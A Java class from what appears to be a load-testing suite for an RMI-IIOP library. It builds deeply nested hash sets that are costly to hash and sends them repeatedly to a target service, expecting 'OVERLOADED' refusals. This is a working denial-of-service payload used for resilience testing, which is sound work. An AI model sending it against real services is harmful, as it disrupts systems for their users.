package dev.parley.load.attacks;

import dev.parley.calls.Parley;
import dev.parley.iiop.Orb;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;

/** Sets of sets that take long to hash, by RMI-IIOP. */
final class NestedSets implements Attack {
  private static final int CALLS_MAX = 10_000;
  private static final int WIDTH = 40;
  private static final int DEPTH = 8;

  @Override
  public String description() {
    return "RMI-IIOP messages with hash sets inside each other, 40 wide and 8 deep";
  }

  @Override
  public Set<String> refusals() {
    return Set.of("OVERLOADED");
  }

  @Override
  public void run(AttackTarget target, Deadline until, OutcomeCounters tally) throws Exception {
    Object nested = nested();
    try (Parley parley = Parley.start();
        Orb iiop = Orb.on(parley)) {
      RemoteAttackedService desk = iiop.lookup(target.reference(), RemoteAttackedService.class);
      for (int i = 0; i < CALLS_MAX && until.open(); i++) {
        try {
          desk.take(nested);
          tally.ended(null);
        } catch (Exception e) {
          tally.ended(e);
        }
      }
    }
  }

  /** Lists are hashed here while they hold only a number; what they hold is added afterwards. */
  private static Object nested() {
    Object inner = "the innermost";
    for (int level = 0; level < DEPTH; level++) {
      List<List<Object>> elements =
          IntStream.range(0, WIDTH)
              .<List<Object>>mapToObj(i -> new ArrayList<>(List.of(i)))
              .toList();
      Object outer = new HashSet<>(elements);
      for (List<Object> each : elements) {
        each.add(inner);
      }
      inner = outer;
    }
    return inner;
  }
}
